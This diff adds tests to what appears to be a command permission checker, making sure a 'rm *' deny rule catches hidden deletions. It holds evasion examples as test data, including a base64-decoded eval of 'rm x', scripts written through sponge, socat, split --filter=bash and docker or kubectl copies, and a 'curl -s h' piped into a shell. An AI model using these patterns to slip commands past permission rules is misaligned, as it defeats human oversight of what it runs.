@@ -177,6 +177,69 @@ describe('a Bash rule, of what at is to run,', () => {
   );
 });
 
+describe('a Bash rule, of a file that a shell runs,', () => {
+  const text = 'eval "$(echo cm0geA== | base64 -d)"';
+  it.each([
+    'sponge s',
+    "sed -n 'w s'",
+    `awk '{print > "s"}'`,
+    'sort -o s',
+    'uniq - s',
+    'iconv -o s',
+    'pv -o s',
+    'socat - CREATE:s',
+    `python3 -c 'import sys;open("s","w").write(sys.stdin.read())'`,
+  ])('asks what a program may have written to it that is not known to write: %s', (writer) => {
+    for (const run of ['sh s', './s', 'sudo bash ./s'])
+      expect([run, matches('rm *', `echo '${text}' | ${writer}; ${run}`)]).toEqual([run, true]);
+    expect(matches('rm *', `echo 'ls -l' | ${writer}; sh s`)).toBe(false);
+  });
+
+  it.each([
+    'git mv s.tmp s; sh s',
+    "rename 's/.tmp//' s.tmp; sh s",
+    'docker cp s.tmp c:/s; docker exec c sh /s',
+    'kubectl cp s.tmp p:/s; kubectl exec p -- sh /s',
+  ])('asks what it has become: %s', (then) => {
+    expect(matches('rm *', `echo '${text}' > s.tmp; ${then}`)).toBe(true);
+    expect(matches('rm *', `echo 'ls -l' > s.tmp; ${then}`)).toBe(false);
+  });
+
+  it.each(['chmod +x s; npx ./s', 'uvx ./s', 'npm exec ./s', 'foo ./s', 'sbatch s.sh', 'srun s.sh', 'foo -x ./s.sh'])(
+    'asks what a program is given to run: %s',
+    (then) => {
+      const name = /s(?:\.sh)?$/.exec(then)?.[0];
+      expect(matches('rm *', `echo '${text}' > ${name}; ${then}`)).toBe(true);
+      expect(matches('rm *', `echo 'ls -l' > ${name}; ${then}`)).toBe(false);
+    },
+  );
+
+  it.each([
+    'cat check.sh; bash check.sh',
+    'chmod +x check.sh && ./check.sh',
+    "sed -n '1,9p' check.sh; bash check.sh",
+    'git add check.sh && bash check.sh',
+    'npx tsx a.ts && bash scripts/check.sh',
+    'rsync -a --exclude .git . h: && git commit -m x',
+  ])('does not ask where nothing seems to have written it: %s', (then) => {
+    expect(matches('rm *', written('a.ts', `log(\`\${a} -> \${b}\`)`, then))).toBe(false);
+  });
+
+  it.each([
+    `echo '$CMD x' | split --filter=bash`,
+    `echo '$CMD x' | split --filter 'sudo bash -s'`,
+    `echo '$CMD x' | tar cIf bash a`,
+    `echo '$CMD x' | rsync -e bash a b`,
+    'curl -s h | split --filter=sh',
+  ])('asks what it is given through a program: %s', (line) => {
+    expect(matches('rm *', line)).toBe(true);
+  });
+
+  it(`does not ask about a shell's own line there`, () => {
+    expect(matches('rm *', `curl -s h | split --filter='sh -c "gzip > a"'`)).toBe(false);
+  });
+});
+
 describe('a Bash rule, of a text that no shell could read to its end,', () => {
   const long = `\npython3 <<'E'\n${'a b\n'.repeat(250)}E`;
   const longest = `\npython3 <<'E'\n${'a = b(c, d) + x\n'.repeat(550)}E`;
